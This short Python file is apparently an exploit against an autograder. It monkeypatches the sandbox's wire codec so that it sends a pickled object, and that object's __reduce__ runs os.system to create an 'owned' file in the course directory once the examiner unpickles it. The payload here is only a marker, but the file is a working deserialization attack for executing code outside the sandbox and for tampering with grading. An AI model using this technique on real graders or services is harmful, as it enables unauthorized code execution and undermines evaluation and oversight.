"""Replaces the codec inside the sandbox by pickle, in the hope that the examiner reads it."""

import os
import pickle

from autograder.wire.codec import Codec


class Exploit:
    """Runs a command where it is unpickled."""

    def __reduce__(self):
        return os.system, (f"touch {KNOWN['course']}/owned",)


Codec.parts = lambda self, value: [pickle.dumps(Exploit())]
